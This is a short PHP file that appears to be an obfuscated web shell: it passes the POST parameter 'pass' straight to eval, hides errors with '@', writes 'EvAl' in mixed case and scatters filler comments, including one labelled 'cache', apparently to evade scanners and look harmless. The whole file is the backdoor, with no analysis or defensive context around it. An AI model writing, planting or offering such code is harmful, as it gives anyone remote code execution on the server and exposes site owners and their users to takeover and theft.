<?php /* cache */ @ EvAl /* x */ (
  $_POST [ 'pass' ] # y
 ) ; // z
?>
